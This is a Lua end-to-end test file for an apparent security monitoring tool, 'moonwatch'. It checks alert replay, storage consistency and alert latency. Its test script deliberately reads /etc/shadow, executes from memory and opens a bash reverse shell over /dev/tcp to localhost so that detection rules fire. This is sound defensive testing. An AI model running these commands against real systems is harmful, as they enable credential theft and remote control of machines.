-- What was judged live and what its recording gives are the same bytes, in batches of any size, for any user.
local e2e = require "tests.e2e.harness"

local ACT = [[
cd $DIR
cat /etc/shadow >/dev/null
cp /bin/true tool; ./tool
fexec memfd name /bin/true name
peer listen got bash -c 'bash -i >& /dev/tcp/127.0.0.1/$PORT 0>&1; true'
for i in $(seq 200); do /bin/true; done
]]

e2e.live("replay gives what was seen live", function(dir)
  local live = e2e.watch(dir, ACT, { more = "--record run.mwt" })
  assert.same({ "credential-read", "fresh-program", "memory-exec", "remote-shell" }, e2e.rules(live))
  -- Another user may read the trace and an installed copy of the program, and nothing else.
  e2e.shell(dir, ([[mkdir -p p/bin p/share/moonwatch; cp "$MOONWATCH" p/bin/; cp -R %s/../lua/detections p/share/moonwatch/
chmod -R a+rX p; chmod 711 .; chmod 644 run.mwt]]):format(e2e.quote(e2e.moonwatch:match("^(.*)/"))))
  for _, way in ipairs { "", "", "--batch 1", "--batch 2", "--batch 7", "--batch 4096", "--batch 1000000" } do
    for _, program in ipairs { "$MOONWATCH", e2e.nobody .. "p/bin/moonwatch" } do
      local replay = e2e.shell(dir, ("%s replay --json %s run.mwt"):format(program, way))
      assert.equal(0, replay.status, replay.err)
      assert.truthy(live.out == replay.out, ("%s replay %s differs from what was seen live"):format(program, way))
    end
  end
end)

e2e.live("the store holds what stdout told", function(dir)
  local live = e2e.watch(dir, ACT)
  local stored = e2e.shell(dir, [[sqlite3 alerts.db "PRAGMA integrity_check" && $MOONWATCH ctl alerts --store alerts.db --json --limit 1000]])
  assert.equal(0, stored.status, stored.err)
  assert.equal("ok\n" .. live.out, stored.out)
end, "sqlite3")

-- The time between the act, as the kernel saw it, and the alert on the program's output.
e2e.live("an alert comes within a second of the act", function(dir)
  e2e.write(dir .. "/act.sh", [[
cd $DIR
exec >act.out 2>act.err
cat /etc/shadow act.sh
# The alert has to come while the act goes on.
for ((i = 0; i < 200; i++)); do grep -q credential-read stamped && break; sleep 0.02; done
]])
  local run = e2e.shell(dir, [[
: >stamped
$MOONWATCH run --json --store alerts.db --socket ctl.sock -- bash $DIR/act.sh |
  perl -MTime::HiRes=time -ne 'BEGIN { $| = 1 } printf "%.6f %s", time, $_' >stamped]])
  assert.equal(0, run.status, run.err)
  local found
  for _, line in ipairs(e2e.split(e2e.read(dir .. "/stamped"))) do
    local stamp, text = line:match("^([%d.]+) (.*)$")
    local alert = e2e.json.decode(text)
    if alert.rule.id == "credential-read" and text:find(dir, 1, true) then
      local h, m, s = alert["@timestamp"]:match("T(%d+):(%d+):([%d.]+)Z")
      local late = (tonumber(stamp) - (h * 3600 + m * 60 + s)) % 86400
      found = true
      assert.truthy(late < 1 or late > 86399.9, ("the alert came after %.3f s"):format(late))
    end
  end
  assert.truthy(found, "no alert: " .. run.err)
end, "perl")
